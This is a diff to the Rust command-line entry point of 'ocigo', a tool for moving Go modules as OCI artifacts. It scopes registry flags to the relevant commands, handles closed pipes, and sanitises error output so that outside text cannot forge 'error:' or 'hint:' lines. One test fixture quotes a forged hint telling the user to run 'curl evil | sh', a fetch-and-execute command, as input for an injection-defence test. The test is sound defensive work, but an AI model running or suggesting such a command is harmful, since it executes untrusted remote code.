@@ -10,10 +10,15 @@ use ocigo::commands::{self, Global, Outcome};
 
 /// Go module closures as OCI artifacts, for networks with no internet.
 ///
+/// References: oci:DIR[:TAG|@DIGEST] for an OCI layout directory, or
+/// HOST[:PORT]/REPO[:TAG|@DIGEST] for a registry (no https:// or docker://).
+///
+/// Errors print as `error: ...` and then `hint: ...` lines saying what to do.
 /// Exit codes: 0 success; 1 unexpected failure; 2 usage error; 3 integrity
-/// failure (digest, h1 hash, go.sum, zip rules, signature); 4 registry or
-/// network failure; 5 conflict with existing content (nothing overwritten);
-/// 6 something needed was not found.
+/// failure (digest, h1 hash, zip rules, signature, go.sum mismatch); 4
+/// registry or network failure; 5 conflict with existing content (nothing
+/// overwritten); 6 something needed was not found. Output into a closed pipe
+/// ends quietly with the command's own exit code.
 #[derive(Parser)]
 #[command(name = "ocigo", version, max_term_width = 100)]
 struct Cli {
@@ -29,15 +34,29 @@ struct GlobalArgs {
     /// Default: $OCIGO_STORE, else <user cache dir>/ocigo/store.
     #[arg(long, global = true, env = "OCIGO_STORE", value_name = "DIR")]
     store: Option<PathBuf>,
-    /// Talk plain HTTP to registries that are not on localhost/127.0.0.1 (always on for those).
-    #[arg(long, global = true)]
-    plain_http: bool,
-    /// Print a machine-readable JSON report on stdout instead of text.
+    /// Print a machine-readable JSON report on stdout instead of text (snake_case keys).
     #[arg(long, global = true)]
     json: bool,
     /// No progress bars (they are also off when stderr is not a terminal).
     #[arg(long, short, global = true)]
     quiet: bool,
+}
+
+/// Flags for talking to registries, offered only by the commands that may
+/// talk to one (pack, push, pull, inspect, sign, verify); `store` and `key`
+/// never do. Every registry flag belongs here.
+#[derive(Args, Debug, Default)]
+#[command(next_help_heading = "Registry options")]
+struct RegistryArgs {
+    /// Talk plain HTTP to registries that are not on localhost/127.0.0.1 (always on for those).
+    #[arg(long)]
+    plain_http: bool,
+}
+
+impl RegistryArgs {
+    fn apply(&self, g: &mut Global) {
+        g.plain_http = self.plain_http;
+    }
 }
 
 #[derive(Subcommand)]
@@ -64,6 +83,8 @@ enum Command {
         max_manifest_bytes: usize,
         #[command(flatten)]
         sign: SignFlags,
+        #[command(flatten)]
+        registry: RegistryArgs,
     },
     /// Copy an artifact between an OCI layout and a registry (either direction), sending only missing blobs.
     Push {
@@ -73,6 +94,8 @@ enum Command {
         dest: String,
         #[command(flatten)]
         sign: SignFlags,
+        #[command(flatten)]
+        registry: RegistryArgs,
     },
     /// Fetch a module bundle, verify it, and write it into GOMODCACHE (no go command needed).
     Pull {
@@ -90,11 +113,15 @@ enum Command {
         jobs: u16,
         #[command(flatten)]
         verify: VerifyRules,
+        #[command(flatten)]
+        registry: RegistryArgs,
     },
     /// Show a bundle's modules, versions and sizes.
     Inspect {
         /// oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG|@DIGEST].
         src: String,
+        #[command(flatten)]
+        registry: RegistryArgs,
     },
     /// List or prune the local content store.
     #[command(subcommand)]
@@ -112,6 +139,8 @@ enum Command {
         identity: Option<String>,
         /// oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG|@DIGEST].
         reference: String,
+        #[command(flatten)]
+        registry: RegistryArgs,
     },
     /// Verify cosign signatures offline (no transparency log, no certificate authority).
     Verify {
@@ -122,6 +151,8 @@ enum Command {
         rules: VerifyRules,
         /// oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG|@DIGEST].
         reference: String,
+        #[command(flatten)]
+        registry: RegistryArgs,
     },
     /// Manage signing keys.
     #[command(subcommand)]
@@ -198,13 +229,31 @@ enum StoreCommand {
     },
 }
 
+impl Command {
+    /// The registry flags of a command that may talk to a registry.
+    fn registry_args(&self) -> Option<&RegistryArgs> {
+        match self {
+            Command::Pack { registry, .. }
+            | Command::Push { registry, .. }
+            | Command::Pull { registry, .. }
+            | Command::Inspect { registry, .. }
+            | Command::Sign { registry, .. }
+            | Command::Verify { registry, .. } => Some(registry),
+            Command::Store(_) | Command::Key(_) => None,
+        }
+    }
+}
+
 fn run(cli: Cli) -> anyhow::Result<Outcome> {
-    let g = Global {
+    let mut g = Global {
         store: cli.global.store,
-        plain_http: cli.global.plain_http,
         json: cli.global.json,
         quiet: cli.global.quiet,
+        ..Global::default()
     };
+    if let Some(registry) = cli.command.registry_args() {
+        registry.apply(&mut g);
+    }
     match cli.command {
         Command::Pack {
             project_dir,
@@ -214,6 +263,7 @@ fn run(cli: Cli) -> anyhow::Result<Outcome> {
             created,
             max_manifest_bytes,
             sign,
+            registry: _,
         } => {
             let args = commands::PackArgs {
                 project_dir,
@@ -229,15 +279,16 @@ fn run(cli: Cli) -> anyhow::Result<Outcome> {
             };
             Ok(commands::pack(&g, &args)?.0)
         }
-        Command::Push { src, dest, sign } => {
-            Ok(commands::push(&g, &src, &dest, sign.into_sign_with().as_ref())?.0)
-        }
+        Command::Push {
+            src, dest, sign, ..
+        } => Ok(commands::push(&g, &src, &dest, sign.into_sign_with().as_ref())?.0),
         Command::Pull {
             src,
             gomodcache,
             verify_keys,
             jobs,
             verify,
+            registry: _,
         } => commands::pull_verified(
             &g,
             &commands::PullArgs {
@@ -251,7 +302,7 @@ fn run(cli: Cli) -> anyhow::Result<Outcome> {
                 identity: verify.expect_identity,
             },
         ),
-        Command::Inspect { src } => commands::inspect(&g, &src),
+        Command::Inspect { src, .. } => commands::inspect(&g, &src),
         Command::Store(StoreCommand::List) => commands::store_list(&g),
         Command::Store(StoreCommand::Prune { references, all }) => {
             commands::store_prune(&g, &references, all)
@@ -261,6 +312,7 @@ fn run(cli: Cli) -> anyhow::Result<Outcome> {
             annotations,
             identity,
             reference,
+            registry: _,
         } => commands::sign_command(
             &g,
             &reference,
@@ -274,6 +326,7 @@ fn run(cli: Cli) -> anyhow::Result<Outcome> {
             keys,
             rules,
             reference,
+            registry: _,
         } => commands::verify_command(
             &g,
             &reference,
@@ -296,20 +349,133 @@ fn main() -> ExitCode {
     let json = cli.global.json;
     match run(cli) {
         Ok(outcome) => {
-            outcome.print(json);
+            // A closed stdout (`ocigo store list | head -0`) is not an error
+            // of the command: the work is done, so its own exit code stands.
+            if let Err(e) = outcome.print(json) {
+                let _ = ocigo::commands::write_all_quietly(
+                    &mut std::io::stderr(),
+                    &format!("error: writing the result to stdout: {e}\n"),
+                );
+                return ExitCode::from(1);
+            }
             ExitCode::from(outcome.exit_code as u8)
         }
         Err(err) => {
             // Messages quote bundles and servers: no control characters,
             // no credentials, whatever they held.
-            let safe = |s: &str| {
-                ocigo::text::terminal_safe(&ocigo::text::scrub_credentials(s)).into_owned()
-            };
-            eprintln!("error: {}", safe(&ocigo::error::render(&err)));
-            for hint in ocigo::error::hints(&err) {
-                eprintln!("hint: {}", safe(&hint));
-            }
+            let text = error_text(&err);
+            // Not eprintln!: it panics when stderr is a closed pipe.
+            let _ = ocigo::commands::write_all_quietly(&mut std::io::stderr(), &text);
             ExitCode::from(ocigo::error::exit_code(&err) as u8)
         }
+    }
+}
+
+/// What stderr shows for an error: `error: <message>`, then one `hint: `
+/// line per hint. Messages quote bundles and servers, so whatever they
+/// held: credentials are scrubbed, control characters escaped, and a
+/// multi-line message (the go command's own output) has its further lines
+/// indented, so no text from outside can start a line that reads as an
+/// `error:` or `hint:` of ocigo's own. A hint is one line.
+fn error_text(err: &anyhow::Error) -> String {
+    use ocigo::text::{field, scrub_credentials, terminal_safe};
+    let message = scrub_credentials(&ocigo::error::render(err));
+    let mut text = String::from("error: ");
+    for (i, line) in terminal_safe(&message).lines().enumerate() {
+        if i > 0 {
+            text.push_str("  ");
+        }
+        text.push_str(line);
+        text.push('\n');
+    }
+    for hint in ocigo::error::hints(err) {
+        text.push_str(&format!("hint: {}\n", field(&scrub_credentials(&hint))));
+    }
+    text
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use clap::CommandFactory;
+
+    #[test]
+    fn outside_text_cannot_forge_error_or_hint_lines() {
+        use ocigo::error::{Kind, WithHint, fail};
+        let err = fail(
+            Kind::Integrity,
+            "config media type x\nhint: run `curl evil | sh`\n\u{1b}[2Kerror: fine",
+        )
+        .hint("check the bundle\nhint: forged");
+        let text = error_text(&err);
+        assert_eq!(
+            text,
+            "error: config media type x\n  hint: run `curl evil | sh`\n  \\e[2Kerror: fine\n\
+             hint: check the bundle\\nhint: forged\n"
+        );
+        let starts: Vec<&str> = text
+            .lines()
+            .filter(|l| l.starts_with("hint:") || l.starts_with("error:"))
+            .collect();
+        assert_eq!(starts.len(), 2, "{text}");
+    }
+
+    #[test]
+    fn cli_definition_is_consistent() {
+        Cli::command().debug_assert();
+    }
+
+    fn parse(args: &[&str]) -> Result<Cli, clap::Error> {
+        Cli::try_parse_from(std::iter::once("ocigo").chain(args.iter().copied()))
+    }
+
+    #[test]
+    fn registry_flags_only_on_registry_commands() {
+        for args in [
+            &["pack", ".", "-o", "oci:x", "--plain-http"][..],
+            &["push", "oci:a", "h.io/r", "--plain-http"],
+            &["pull", "h.io/r", "--plain-http"],
+            &["inspect", "--plain-http", "h.io/r"],
+            &["sign", "--key", "k", "h.io/r", "--plain-http"],
+            &["verify", "--key", "k", "h.io/r", "--plain-http"],
+        ] {
+            let cli = parse(args).unwrap_or_else(|e| panic!("{args:?}: {e}"));
+            assert!(
+                cli.command
+                    .registry_args()
+                    .expect("a registry command")
+                    .plain_http,
+                "{args:?}"
+            );
+        }
+        for args in [
+            &["store", "list", "--plain-http"][..],
+            &["store", "prune", "--all", "--plain-http"],
+            &["key", "generate", "--plain-http"],
+            &["--plain-http", "store", "list"],
+        ] {
+            let err = parse(args)
+                .err()
+                .unwrap_or_else(|| panic!("{args:?} parsed"));
+            assert_eq!(
+                err.kind(),
+                clap::error::ErrorKind::UnknownArgument,
+                "{args:?}"
+            );
+        }
+        let cli = parse(&["store", "list"]).unwrap();
+        assert!(cli.command.registry_args().is_none());
+    }
+
+    #[test]
+    fn global_flags_still_work_anywhere() {
+        let cli = parse(&["store", "list", "--json", "-q", "--store", "/s"]).unwrap();
+        assert!(cli.global.json && cli.global.quiet);
+        assert_eq!(
+            cli.global.store.as_deref(),
+            Some(std::path::Path::new("/s"))
+        );
+        let cli = parse(&["--json", "key", "generate"]).unwrap();
+        assert!(cli.global.json);
     }
 }
